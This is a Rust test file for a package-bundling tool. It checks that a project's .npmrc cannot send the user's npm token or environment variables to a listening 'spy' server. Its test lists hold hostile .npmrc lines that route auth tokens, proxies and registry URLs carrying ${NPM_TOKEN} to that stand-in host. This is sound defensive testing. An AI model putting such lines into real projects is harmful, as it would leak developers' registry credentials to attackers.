//! A project's own `.npmrc` comes from whoever wrote the project. It says where registries are, and
//! gets nothing else: neither the environment, nor the user's tokens, nor a look at the traffic.
#![cfg(feature = "network")]
// A test fails by panicking; and it looks at files that the program may not.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::disallowed_methods)]

mod world;

use testkit::registry::{Registry, Running};
use world::{Package, Run, World};

/// In the environment.
const VARIABLE: &str = "npm_hush_variable";
/// In the user's `.npmrc`, for the user's registry.
const TOKEN: &str = "npm_hush_token";

/// A user with a token for their registry, and somebody who listens.
struct Trap {
    world: World,
    registry: Running,
    spy: Running,
}

impl Trap {
    fn new() -> Self {
        let world = World::new();
        let packages = [Package::new("a", "1.0.0"), Package::new("@acme/b", "1.0.0")];
        world.lock(&packages);
        let [one, other] = &packages;
        let registry = other.on(one.on(Registry::new())).token(TOKEN).start();
        let spy = Registry::new().start();
        let host = registry.host();
        world.write("home/.npmrc", format!("//{host}/:_authToken={TOKEN}\n"));
        Self { world, registry, spy }
    }

    /// Fetches with this `.npmrc` beside the lockfile.
    fn fetch(&self, npmrc: &str) -> Run {
        let (url, spy) = (self.registry.url(), self.spy.host());
        let npmrc = npmrc.replace("SPY", &spy).replace("REGISTRY", &url);
        self.world.write(".npmrc", npmrc);
        let _ = std::fs::remove_dir_all(self.world.path("home/cache"));
        let line = "bundle fetch package-lock.json -o app.sealift --key release.key \
                    --trusted-root trusted_root.json --npm-keys keys.json \
                    --at 2026-02-01T00:00:00Z";
        let mut command = self.world.command(env!("CARGO_BIN_EXE_sealift"));
        Run::of(command.args(line.split_whitespace()).env("NPM_TOKEN", VARIABLE))
    }

    /// Whatever the spy received, and whatever was written and said, holds no secret.
    fn is_unharmed(&self, run: &Run, attempt: &str) {
        let heard = format!("{:?}", self.spy.requests());
        let asked: Vec<_> = self.registry.requests().iter().map(|seen| seen.path.clone()).collect();
        for secret in [VARIABLE, TOKEN, "hush"] {
            assert!(!heard.contains(secret), "{attempt}: {heard}");
            assert!(!run.to_string().contains(secret), "{attempt}: {run}");
            assert!(!asked.join(" ").contains(secret), "{attempt}: {asked:?}");
        }
        let credential = |(name, _): &(String, String)| name.contains("authorization");
        let mut seen = self.spy.requests().into_iter().flat_map(|seen| seen.headers);
        assert!(!seen.any(|header| credential(&header)), "{attempt}: {heard}");
        if self.world.path("app.sealift").exists() {
            let archive = self.world.read("app.sealift");
            let has =
                |secret: &str| archive.windows(secret.len()).any(|at| at == secret.as_bytes());
            assert!(!has("hush"), "{attempt}");
            std::fs::remove_file(self.world.path("app.sealift")).unwrap();
        }
    }
}

#[test]
fn nothing_but_registries_is_taken_from_it() {
    let trap = Trap::new();
    let registries = "registry=REGISTRY/\n@acme:registry=REGISTRY/\n";
    for attempt in [
        "//SPY/:_authToken=${NPM_TOKEN}",
        "//SPY/:_auth=${NPM_TOKEN}",
        "//SPY/:username=${NPM_TOKEN}\n//SPY/:_password=aHVzaA==",
        "//127.0.0.1/:_authToken=${NPM_TOKEN}",
        "proxy=http://SPY/",
        "https-proxy=http://SPY/\nproxy=http://SPY/",
        "proxy=http://${NPM_TOKEN}:x@SPY/",
        "noproxy=*",
        "ca=${NPM_TOKEN}",
        "cafile=home/.npmrc",
        "cafile=/dev/zero",
        "strict-ssl=false",
        "${NPM_TOKEN}=${NPM_TOKEN}",
        "_authToken=${NPM_TOKEN}",
    ] {
        let run = trap.fetch(&format!("{registries}{attempt}\n")).done();
        trap.is_unharmed(&run, attempt);
        assert_eq!(trap.spy.requests().len(), 0, "{attempt}");
    }
    assert!(trap.registry.requests().iter().all(|seen| seen.authorization.is_some()));
}

#[test]
fn a_registry_that_takes_a_variable_along_is_refused() {
    let trap = Trap::new();
    for attempt in [
        "registry=http://SPY/${NPM_TOKEN}/",
        "registry=http://${NPM_TOKEN}:x@SPY/",
        "registry=http://SPY/${NPM_TOKEN?}/",
        "@acme:registry=http://SPY/${NPM_TOKEN}/",
        "@${NPM_TOKEN}:registry=http://SPY/",
    ] {
        let run = trap.fetch(attempt).failed().says("names an environment variable");
        let run = run.says("--trust-project-npmrc");
        trap.is_unharmed(&run, attempt);
    }
    assert_eq!(trap.spy.requests().len() + trap.registry.requests().len(), 0);
}

#[test]
fn a_registry_of_the_strangers_gets_no_token() {
    let trap = Trap::new();
    for attempt in [
        "registry=http://SPY/\n@acme:registry=http://SPY/",
        "registry=REGISTRY/\n@acme:registry=http://SPY/REGISTRY/",
        "registry=REGISTRY/\n@acme:registry=http://127.0.0.1@SPY/",
    ] {
        let run = trap.fetch(attempt).failed();
        trap.is_unharmed(&run, attempt);
    }
    assert!(!trap.spy.requests().is_empty(), "it was asked, and found with nothing");
}

#[test]
fn a_project_that_is_trusted_may_say_all_of_it() {
    let trap = Trap::new();
    let host = trap.registry.host();
    trap.world.write("home/.npmrc", "");
    let npmrc = format!(
        "registry=REGISTRY/\n@acme:registry=REGISTRY/\n//{host}/:_authToken=${{NPM_TOKEN}}\n"
    );
    trap.fetch(&npmrc).failed().says("--trust-project-npmrc");
    let line = "bundle fetch package-lock.json -o app.sealift --key release.key \
                --trusted-root trusted_root.json --npm-keys keys.json \
                --at 2026-02-01T00:00:00Z --trust-project-npmrc";
    let mut command = trap.world.command(env!("CARGO_BIN_EXE_sealift"));
    Run::of(command.args(line.split_whitespace()).env("NPM_TOKEN", TOKEN)).done();
    assert!(trap.registry.requests().iter().any(|seen| seen.authorization.is_some()));
}
